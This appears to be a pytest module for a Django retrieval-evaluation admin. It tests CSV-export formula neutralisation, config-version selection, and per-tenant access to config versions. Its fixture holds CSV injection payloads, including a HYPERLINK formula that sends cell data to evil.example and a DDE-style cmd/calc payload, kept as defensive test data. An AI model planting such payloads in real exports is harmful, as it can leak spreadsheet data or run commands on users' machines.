"""Evaluation runs at their edges: a CSV download that a spreadsheet cannot run as formulas, a
run of "the config that serves" that runs exactly what serves (a dataset's own config too),
and forms that offer the versions that exist, of any config the user may see."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client
from django.urls import reverse

from datasets.documents.services import tenant_get_or_create
from evaluation.models import EvaluationRun
from retrieval.models import RagConfig, RagConfigChange
from retrieval.ragconfig.services import rag_config_update
from tests.retrieval.conftest import Imported

pytestmark = pytest.mark.django_db

ADD = "admin:evaluation_evaluationrun_add"
FORMULAS = [
    {"id": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
     "query": "=HYPERLINK(\"http://evil.example\",\"nginx 502\")", "expected": "nginx.md"},
    {"id": "@SUM(1+1)*cmd|' /C calc'!A0", "query": "@SUM(A1:A9) kafka consumer lag",
     "expected": ["kafka.md"]},
    {"id": "+1", "query": "+1 nginx 502 bad gateway", "expected": "+evil.md"},
    {"id": "-1+1", "query": "-1+1 kafka consumer lag", "expected": "-2+3"},
    {"id": "blank", "query": "quarterly sales =1+1 tax", "expected": " =1+1 blanks first"},
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def started(client: Client, applied: Any, tenant: Any, questions: str, **fields: Any
            ) -> EvaluationRun:
    with applied():
        response = client.post(reverse(ADD), {"tenant": tenant.pk, "questions_text": questions,
                                              **fields})
    assert response.status_code == 302, response.content.decode()[:3000]
    return EvaluationRun.objects.latest("pk")


def downloaded_csv(client: Client, run: EvaluationRun) -> list[list[str]]:
    response = client.get(reverse("admin:evaluation_evaluationrun_download", args=[run.pk]),
                          {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_csv_download_neutralises_every_formula_cell_and_keeps_numbers_numeric(
        admin_client: Client, acme: Imported, applied: Any) -> None:
    questions = "\n".join(json.dumps(q) for q in FORMULAS)
    run = started(admin_client, applied, acme.tenant, questions)
    header, *rows = downloaded_csv(admin_client, run)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            # A spreadsheet reads a cell whose first character (blanks aside) is one of these
            # as a formula: every such text cell starts with a quote instead (OWASP).
            assert not cell.lstrip(" ").startswith(TRIGGERS), (header, row)
    by_id = {row[header.index("query_id")]: dict(zip(header, row, strict=True)) for row in rows}
    first = by_id["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]
    assert first["query"] == "'=HYPERLINK(\"http://evil.example\",\"nginx 502\")"
    assert by_id["'-1+1"]["expected"] == "'-2+3" and by_id["'+1"]["expected"] == "'+evil.md"
    assert by_id["blank"]["query"] == "quarterly sales =1+1 tax"  # not at the start: kept
    # The figures stay numbers a spreadsheet computes with (a negative one too).
    assert by_id["'+1"]["position"] == "3" and by_id["'+1"]["hit"] in ("0", "1")
    assert float(by_id["'-1+1"]["ndcg@10"]) >= 0 and float(by_id["'-1+1"]["latency_ms"]) > 0

    # The JSON download keeps the text as it was.
    exported = json.loads(b"".join(admin_client.get(reverse(
        "admin:evaluation_evaluationrun_download", args=[run.pk])).streaming_content))
    assert [r["query_id"] for r in exported["results"]] == [q["id"] for q in FORMULAS]


def test_a_negative_number_stays_a_number_and_a_negative_text_is_neutralised() -> None:
    from evaluation.admin import csv_cell

    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(True) == 1
    assert csv_cell("-0.5") == "'-0.5"  # text that looks like a number is still text
    assert csv_cell(["=a", "b"]) == "'=a|b" and csv_cell(["a", "=b"]) == "a|=b"
    assert csv_cell("plain text") == "plain text" and csv_cell("") == ""
    for text in ("\t=1+1", "\rcmd", "  =1+1", "\n@SUM(A1)", " -2+3"):
        assert csv_cell(text) == f"'{text}"  # tab, CR, and a formula after blanks


NGINX_ONLY = json.dumps({"id": "nginx", "query": "nginx 502 bad gateway upstream connection "
                         "refused", "expected": "nginx.md"})


def test_a_run_of_the_serving_config_runs_the_datasets_own_config(
        admin_client: Client, acme: Imported, applied: Any) -> None:
    default = rag_config_update(config=None, tenant=acme.tenant, values={"return_n": 5},
                                changed_by="a")
    own = rag_config_update(config=None, tenant=acme.tenant, dataset=acme.dataset,
                            values={"return_n": 3}, changed_by="a")
    own = rag_config_update(config=own, tenant=acme.tenant, dataset=acme.dataset,
                            values={"return_n": 1},
                            changed_by="b")  # version 2 of the dataset's config serves
    assert (default.version, own.version) == (1, 2)

    run = started(admin_client, applied, acme.tenant, NGINX_ONLY,
                  datasets=[acme.dataset.pk])
    assert run.settings["return_n"] == 1  # what serves lookups of that dataset
    assert (run.config_scope, run.config_version) == ("acme/ops", 2)
    assert run.results.get().ranking == ["nginx.md"]  # one item handed out
    page = admin_client.get(reverse("admin:evaluation_evaluationrun_change", args=[run.pk]))
    assert "acme/ops, version 2" in page.content.decode()

    # An earlier version of the dataset's config, chosen from the versions that exist.
    first = own.changes.get(version=1)
    earlier = started(admin_client, applied, acme.tenant, NGINX_ONLY, version=first.pk)
    assert (earlier.config_scope, earlier.config_version) == ("acme/ops", 1)
    assert earlier.settings["return_n"] == 3
    assert earlier.dataset_ids == [acme.dataset.pk]  # no dataset chosen: the config's own

    # The tenant default's version over several datasets: the default's settings.
    whole = started(admin_client, applied, acme.tenant, NGINX_ONLY,
                    version=default.changes.get(version=1).pk)
    assert (whole.config_scope, whole.config_version, whole.settings["return_n"]) == (
        "acme/default", 1, 5)


def test_the_forms_offer_the_versions_that_exist_of_the_configs_the_user_may_see(
        client: Client, acme: Imported, applied: Any, settings: Any) -> None:
    own = rag_config_update(config=None, tenant=acme.tenant, dataset=acme.dataset,
                            values={"return_n": 3}, changed_by="a")
    rag_config_update(config=own, tenant=acme.tenant, dataset=acme.dataset,
                      values={"return_n": 2}, changed_by="a")
    other = tenant_get_or_create(slug="globex")
    theirs = rag_config_update(config=None, tenant=other, values={}, changed_by="g")
    staff = User.objects.create_user("staffer", is_staff=True)
    staff.user_permissions.add(*Permission.objects.filter(codename__in=[
        "add_evaluationrun", "view_evaluationrun"]))
    acme.tenant.staff.add(staff)
    client.force_login(staff)

    form = client.get(reverse(ADD)).content.decode()
    select = form.split('name="version"', 1)[1].split("</select>", 1)[0]
    assert '<optgroup label="acme/ops">' in select
    ours = {c.pk for c in RagConfigChange.objects.filter(config=own)}
    for pk in ours:
        assert f'<option value="{pk}">' in select
    assert "globex" not in select  # another tenant's configs are not offered
    assert 'type="number"' not in select and 'name="version" type' not in form

    # Nor can they be posted.
    refused = client.post(reverse(ADD), {"tenant": acme.tenant.pk, "questions_text": NGINX_ONLY,
                                         "version": theirs.changes.get().pk})
    assert refused.status_code == 200 and "valid choice" in refused.content.decode()
    assert not EvaluationRun.objects.exists()


def test_only_the_latest_versions_of_a_config_are_offered(
        admin_client: Client, acme: Imported, monkeypatch: pytest.MonkeyPatch) -> None:
    """A config's history grows with every save: the form offers its latest versions only,
    cut in the query (MariaDB's unsigned versions included)."""
    monkeypatch.setattr("retrieval.admin.forms.MAX_VERSIONS_OFFERED", 2)
    config = None
    for n in (3, 2, 1):
        config = rag_config_update(config=config, tenant=acme.tenant, values={"return_n": n},
                                   changed_by="a")
    assert config is not None and config.version == 3
    form = admin_client.get(reverse(ADD)).content.decode()
    select = form.split('name="version"', 1)[1].split("</select>", 1)[0]
    offered = {c.version for c in RagConfigChange.objects.filter(config=config)
               if f'<option value="{c.pk}">' in select}
    assert offered == {2, 3}


def test_a_version_of_another_tenants_config_is_refused_for_this_tenant(
        admin_client: Client, acme: Imported) -> None:
    other = tenant_get_or_create(slug="globex")
    theirs = rag_config_update(config=None, tenant=other, values={}, changed_by="g")
    refused = admin_client.post(reverse(ADD), {"tenant": acme.tenant.pk,
                                               "questions_text": NGINX_ONLY,
                                               "version": theirs.changes.get().pk})
    assert refused.status_code == 200
    assert "is a version of globex/default, not of a config of acme" in \
        refused.content.decode()
    assert not EvaluationRun.objects.exists() and RagConfig.objects.count() == 1
